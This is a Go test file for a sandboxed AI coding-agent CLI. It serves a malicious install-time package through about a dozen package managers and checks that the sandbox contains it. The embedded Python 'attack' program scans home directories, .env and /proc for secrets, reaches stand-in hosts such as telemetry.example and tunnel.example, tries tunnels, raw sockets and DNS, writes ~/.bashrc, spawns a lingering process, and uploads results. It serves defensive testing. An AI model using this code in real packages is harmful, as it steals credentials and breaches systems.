package cli

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"artoo/provider/providertest"
	"artoo/tool/environ"
	"artoo/tool/names"
	"artoo/tool/needs"
	"artoo/tool/sweep"
)

// manager is a package manager that installs evil, and with it good and native.
type manager struct {
	name, program string

	set  string
	fill func(*packages, testing.TB)
	// home and project are files, in which URL stands for the address of the registry. setup is a line that makes
	// more of the project, without a network.
	home, project fileTree
	setup, line   string
	// lands are files that the project has then.
	lands string
	// named has the registry reached by a name of this machine: go asks addresses of the loopback without a proxy.
	named bool
	// env are further variables of the user's, hosts what is listed besides the set. In them URL stands for the
	// registry's address, HOST for its host, and HOME for the home.
	env, hosts string
}

var managers = []manager{
	{name: "npm", program: "npm", set: "@npm", fill: (*packages).npm, home: fileTree{".npmrc": "registry=URL/\n"},
		project: fileTree{"package.json": `{"name":"shop","version":"1.0.0"}`},
		line:    "npm install --no-audit --no-fund --foreground-scripts evil",
		lands:   "node_modules/good/index.js node_modules/native/addon.so node_modules/evil/built package-lock.json"},
	{name: "pnpm", program: "pnpm", set: "@npm", fill: (*packages).npm, home: fileTree{".npmrc": "registry=URL/\n"},
		project: fileTree{"package.json": `{"name":"shop","version":"1.0.0"}`,
			"pnpm-workspace.yaml": "allowBuilds:\n  evil: true\n  native: true\nnodeLinker: hoisted\n"},
		line:  "pnpm add evil",
		lands: "node_modules/good/index.js node_modules/native/addon.so node_modules/evil/built pnpm-lock.yaml"},
	{name: "yarn", program: "yarn", set: "@npm", fill: (*packages).npm, home: fileTree{".npmrc": "registry=URL/\n"},
		project: fileTree{"package.json": `{"name":"shop","version":"1.0.0"}`},
		line:    "yarn add evil",
		lands:   "node_modules/good/index.js node_modules/native/addon.so node_modules/evil/built yarn.lock"},
	{name: "bun", program: "bun", set: "@npm", fill: (*packages).npm, home: fileTree{".npmrc": "registry=URL/\n"},
		project: fileTree{"package.json": `{"name":"shop","version":"1.0.0","trustedDependencies":["evil","native"]}`},
		line:    "bun add evil",
		lands:   "node_modules/good/index.js node_modules/native/addon.so node_modules/evil/built bun.lock"},
	{name: "pip", program: "python3", set: "@pypi", fill: (*packages).pypi,
		home:  fileTree{".config/pip/pip.conf": "[global]\nindex-url = URL/simple/\n"},
		setup: venv,
		line:  ".venv/bin/pip install good native evil",
		lands: ".venv/lib/python3*/site-packages/native/addon.so .venv/lib/python3*/site-packages/evil/built"},
	{name: "go", program: "go", set: "@go", fill: (*packages).golang,
		home: fileTree{".config/go/env": "GOPROXY=URL\nGOSUMDB=off\n"},
		project: fileTree{"go.mod": "module shop.example/shop\n\ngo 1.22\n",
			"a.go": "package shop\n\nimport (\n\t\"C\"\n\t_ \"os/exec\"\n\t_ \"strings\"\n)\n"},
		// A machine that never built the standard library takes long for that.
		setup: "go build",
		line:  "go get -tool evil.example/evil && go tool evil", lands: "go.sum", named: true},
	{name: "cargo", program: "cargo", set: "@crates", fill: (*packages).crates,
		home: fileTree{".cargo/config.toml": "[source.crates-io]\nreplace-with = \"own\"\n[source.own]\n" +
			"registry = \"sparse+URL/\"\n"},
		project: fileTree{"Cargo.toml": "[package]\nname = \"shop\"\nversion = \"1.0.0\"\n",
			"src/main.rs": "fn main() {}\n"},
		line: "cargo add evil && cargo build", lands: "Cargo.lock"},
	{name: "poetry", program: "poetry", set: "@pypi", fill: (*packages).pypi,
		hosts: "HOST for poetry install --no-root",
		project: fileTree{"pyproject.toml": "[tool.poetry]\nname = \"shop\"\nversion = \"1.0.0\"\n" +
			"description = \"\"\n" +
			"authors = []\n[tool.poetry.dependencies]\npython = \"^3.9\"\nevil = \"*\"\n[[tool.poetry.source]]\n" +
			"name = \"own\"\nurl = \"URL/simple/\"\ndefault = true\n"},
		line: "poetry install --no-root",
		lands: ".venv/lib/python3*/site-packages/native/addon.so " +
			".venv/lib/python3*/site-packages/evil/built poetry.lock"},
	{name: "pipenv", program: "pipenv", set: "@pypi", fill: (*packages).pypi, env: "PIPENV_PYPI_MIRROR=URL/simple",
		project: fileTree{"Pipfile": "[[source]]\nurl = \"https://pypi.org/simple\"\nverify_ssl = true\n" +
			"name = \"pypi\"\n"},
		line:  "pipenv install --skip-lock good native evil",
		lands: ".venv/lib/python3*/site-packages/native/addon.so .venv/lib/python3*/site-packages/evil/built"},
	{name: "gem", program: "gem", set: "@rubygems", fill: (*packages).gems, home: fileTree{".gemrc": ":sources:\n" +
		"- URL/\n"},
		line: "gem install --install-dir vendor/gems evil", lands: "vendor/gems/gems/evil-1.0.0/ext/built"},
	{name: "bundler", program: "bundle", set: "@rubygems", fill: (*packages).gems,
		home: fileTree{".bundle/config": "---\nBUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/: \"URL/\"\n"},
		project: fileTree{"Gemfile": "source \"https://rubygems.org\"\ngem \"evil\"\n",
			".bundle/config": "---\nBUNDLE_PATH: \"vendor/bundle\"\n"},
		line: "bundle install", lands: "Gemfile.lock vendor/bundle/ruby/*/gems/evil-1.0.0/ext/built"},
	{name: "maven", program: "mvn", set: "@maven", fill: (*packages).maven,
		// Java takes the home from the system's list of users.
		env: "MAVEN_OPTS=-Duser.home=HOME",
		home: fileTree{".m2/settings.xml": "<settings><mirrors><mirror><id>own</id><mirrorOf>*</mirrorOf>" +
			"<url>URL/</url></mirror></mirrors></settings>"},
		project: fileTree{"pom.xml": "<project><modelVersion>4.0.0</modelVersion><groupId>shop</groupId>" +
			"<artifactId>shop</artifactId><version>1</version><dependencies><dependency>" +
			"<groupId>example.good</groupId><artifactId>good</artifactId><version>1.0.0</version>" +
			"</dependency></dependencies></project>"},
		line: "mvn --batch-mode example.evil:evil-maven-plugin:1.0.0:strike", lands: "target/built"},
}

// venv is a line that makes an environment of Python with pip: with that of the machine, where it has one, since to
// install another takes 3 s.
const venv = "python3 -m venv --without-pip --system-site-packages .venv; " +
	"if .venv/bin/python -c 'import pip' 2>/dev/null; then printf '%s\n' \"#!$PWD/.venv/bin/python\" 'import sys' " +
	"'from pip._internal.cli.main import main' 'sys.exit(main())' >.venv/bin/pip; chmod +x .venv/bin/pip; " +
	"else rm -r .venv; python3 -m venv .venv; fi"

// attack is a program that tries all ways out of the sandbox, and reports for each what came of it, "" if nothing did.
const attack = `
import glob, http.client, json, os, socket, subprocess, sys, urllib.parse, urllib.request
registry, other, six, home, canary, mark = %q, %q, %q, %q, %q, %q
canary = canary[::-1]
result, failed = {}, {}
def attempt(name, do, *args):
    try:
        result[name] = str(do(*args) or '')
    except BaseException as e:
        result[name], failed[name] = '', repr(e)
def reads(*patterns):
    for pattern in patterns:
        for file in glob.glob(pattern, recursive=True, include_hidden=True):
            try:
                if canary in open(file, errors='replace').read(1 << 20): return file
            except OSError: pass
def get(address, data=None):
    answer = urllib.request.urlopen(urllib.request.Request(address, data), timeout=30)
    return str(answer.status) + answer.read(99).decode()
def tunnel(to):
    at = urllib.parse.urlparse(os.environ['https_proxy'])
    import base64
    key = base64.b64encode((at.username + ':' + at.password).encode()).decode()
    c = http.client.HTTPConnection(at.hostname, at.port, timeout=30)
    c.set_tunnel(to.rsplit(':', 1)[0], int(to.rsplit(':', 1)[1]), headers={'Proxy-Authorization': 'Basic ' + key})
    c.connect()
    return 'connected'
def connect(family, *address):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(address)
    return 'connected'
def ask():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    question = bytes.fromhex('123401000001000000000000') + b'\x09telemetry\x07example\x00\x00\x01\x00\x01'
    s.sendto(question, ('127.0.0.1', int(other.split(':')[1])))
    return s.recv(99)
def raw(family, protocol):
    socket.socket(family, socket.SOCK_RAW, protocol)
    return 'opened'
project = os.environ.get('PROJECT', os.environ.get('INIT_CWD', os.getcwd()))
attempt('a file of the home', reads, home + '/**', os.path.expanduser('~/**'))
attempt('a hidden file of the project', reads, project + '/.env')
attempt('a variable', lambda: [k for k in os.environ if canary in os.environ[k]] or None)
attempt('a variable of another process', reads, '/proc/[0-9]*/environ', '/proc/[0-9]*/cmdline')
attempt('another host', get, 'http://telemetry.example/')
attempt('another host by CONNECT', tunnel, 'tunnel.example:443')
attempt('a private address', tunnel, '10.0.0.1:443')
attempt('another port by CONNECT', tunnel, other)
attempt('a redirect', get, registry + '/redirect')
for name in list(os.environ):
    if name.lower() == 'no_proxy': del os.environ[name]
attempt('a private name', get, 'http://localhost:' + other.split(':')[1])
directly = urllib.request.build_opener(urllib.request.ProxyHandler({})).open
attempt('the direct way', directly, 'http://' + other)
attempt('the direct way to the registry', directly, registry)
attempt('DNS', socket.getaddrinfo, 'telemetry.example', 80)
attempt('DNS by hand', ask)
attempt('IPv6', connect, socket.AF_INET6, '::1', int(six))
attempt('a raw socket', raw, socket.AF_INET, socket.IPPROTO_ICMP)
attempt('a packet socket', raw, getattr(socket, 'AF_PACKET', 17), 768)
sys.stderr.write(json.dumps(failed))
subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', mark], start_new_session=True,
    stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
try: open(home + '/.bashrc', 'w').write('evil')
except OSError: pass
get(registry + '/report', json.dumps(result).encode())
try: get(registry + '/upload', b'x' * (20 << 20))
except OSError: pass
`

// Each package manager that is there installs by the sandbox from a registry of the user's, and what a package tries
// on the way comes to nothing.
func TestAnyPackageManagerInstallsInTheSandbox(t *testing.T) {
	t.Parallel()
	needs.Git(t)
	needs.Programs(t, "python3", "cc")
	for _, m := range sweep.Of(t, 2, managers) {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			needs.Program(t, m.program)
			m.run(t)
		})
	}
}

// away is a place that nothing may reach: an address of IPv4, for TCP and UDP, and a port of IPv6.
type away struct {
	address, six string
	reached      atomic.Int32
}

func newAway(t *testing.T) *away {
	t.Helper()
	a := &away{}
	count := http.HandlerFunc(func(http.ResponseWriter, *http.Request) { a.reached.Add(1) })
	four := httptest.NewServer(count)
	t.Cleanup(four.Close)
	a.address = four.Listener.Addr().String()
	six, err := net.Listen("tcp6", "[::1]:0")
	needs.Thing(t, "IPv6", err)
	server := &http.Server{Handler: count}
	go func() { _ = server.Serve(six) }()
	t.Cleanup(func() { server.Close() })
	_, a.six, err = net.SplitHostPort(six.Addr().String())
	must(err)
	return a
}

// reversed keeps the canary out of the packages themselves.
func reversed(s string) string {
	letters := []byte(s)
	slices.Reverse(letters)
	return string(letters)
}

const canary = "canary-4711"

func (m manager) run(t *testing.T) {
	away := newAway(t)
	mark := "survivor of " + t.Name() + "."
	var result string
	survived := false
	model := newModel(t, func(n int, r providertest.Request) providertest.Reply {
		survived = survived || n > 0 && running(t, mark)
		result = lastMessage(t, r.Body).Content
		return line(t, m.line)(n, r)
	})
	env := model.env(t, "container=test", "ARTOO_SANDBOX=auto", "ARTOO_STDIN=never", "NPM_TOKEN="+canary,
		"AWS_SECRET_ACCESS_KEY="+canary, "npm_config_update_notifier=false")
	home := environ.Vars(env).Home()
	host := ""
	if m.named {
		var err error
		host, err = os.Hostname()
		must(err)
	}
	p := newPackages(t, m.fill, host, "http://"+away.address+"/", func(address string) string {
		return fmt.Sprintf(attack, address, away.address, away.six, home, reversed(canary), mark)
	})
	env = append(env, toolchains(t)...)
	if m.env != "" {
		env = append(env, strings.NewReplacer("URL", p.URL, "HOME", home).Replace(m.env))
	}
	artoo := buildProgram(t, moduleDir)
	needsLayers(t, artoo, env)
	project := m.shop(t, p.URL, env)
	hosts := strings.TrimSuffix(m.set+","+strings.ReplaceAll(m.hosts, "HOST", strings.TrimPrefix(p.URL,
		"http://")), ",")
	cmd := exec.Command(artoo, "-p", "--approval", "auto", "--hosts", hosts, "go")
	cmd.Dir, cmd.Env = project, env
	said, err := cmd.CombinedOutput()
	if err != nil || survived {
		t.Errorf("%v, survived: %v\n%s", err, survived, said)
	}
	m.check(t, project, result, away)
	p.judge(t)
	if text, err := os.ReadFile(filepath.Join(home, ".bashrc")); err == nil {
		t.Errorf("the home was written: %s", text)
	}
}

// check holds what landed, what the result of the line names as refused, and that nothing was reached.
func (m manager) check(t *testing.T, project, result string, away *away) {
	t.Helper()
	for _, name := range strings.Fields(m.lands) {
		if there, err := filepath.Glob(filepath.Join(project, name)); len(there) == 0 {
			t.Errorf("%s is not there: %v\n%s", name, err, result)
		}
	}
	for _, name := range []string{"10.0.0.1", away.address, "localhost:", "telemetry.example", "tunnel.example",
		"may not be sent more"} {
		if _, refused, _ := strings.Cut(result, "refused: "); !strings.Contains(refused, name) {
			t.Errorf("%s is not named\n%s", name, result)
		}
	}
	if n := away.reached.Load(); n > 0 {
		t.Errorf("another place was reached %d times", n)
	}
}

// shop makes the project and the home.
func (m manager) shop(t *testing.T, address string, env []string) (project string) {
	project = projectFrom(t, "printf 'node_modules\\n.venv\\ntarget\\nvendor\\n.env\\n' >.gitignore")
	home := environ.Vars(env).Home()
	put := func(dir string, files fileTree) {
		for name, text := range files {
			at := filepath.Join(dir, name)
			must(os.MkdirAll(filepath.Dir(at), 0o755))
			writeFile(t, at, strings.ReplaceAll(text, "URL", address))
		}
	}
	put(home, fileTree{".netrc": canary, ".aws/credentials": canary, ".ssh/id_rsa": canary})
	put(home, m.home)
	put(project, m.project)
	put(project, fileTree{".env": "TOKEN=" + canary})
	cmd := exec.Command("sh", "-ec", m.setup+"\ngit add -A; git -c user.name=a -c user.email=a@b.c commit -qm shop")
	cmd.Dir, cmd.Env = project, env
	if said, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, said)
	}
	return project
}

// judge holds what the attack reported.
func (p *packages) judge(t *testing.T) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if len(p.reports) == 0 || p.uploaded > 2<<20 {
		t.Errorf("%d reports, %d bytes sent", len(p.reports), p.uploaded)
	}
	for _, report := range p.reports {
		for name, came := range report {
			if came != "" {
				t.Errorf("%s: %s", name, came)
			}
		}
	}
}

// toolchains are variables by which programs are found in the sandbox, where those of the user's home are not those
// of the test's. What a line makes of a Python of the home, as of pyenv, is asked about: its links lead out.
func toolchains(t *testing.T) []string {
	t.Helper()
	home, err := os.UserHomeDir()
	must(err)
	dirs := slices.DeleteFunc(filepath.SplitList(os.Getenv("PATH")),
		func(dir string) bool { return names.Within(home, dir) })
	// A missing rustc leaves its test to be skipped.
	rust, _ := exec.Command("rustc", "--print", "sysroot").Output()
	sysroot := strings.TrimSpace(string(rust))
	path := strings.Join(append(dirs, filepath.Join(sysroot, "bin")), string(filepath.ListSeparator))
	return []string{"ARTOO_TOOLCHAINS=" + sysroot, "PATH=" + path}
}

// running reports whether a process of this machine has a word in its command line.
func running(t *testing.T, word string) bool {
	t.Helper()
	files, err := filepath.Glob("/proc/[0-9]*/cmdline")
	must(err)
	return slices.ContainsFunc(files, func(file string) bool {
		// It may have ended.
		text, _ := os.ReadFile(file)
		return strings.Contains(string(text), word)
	})
}
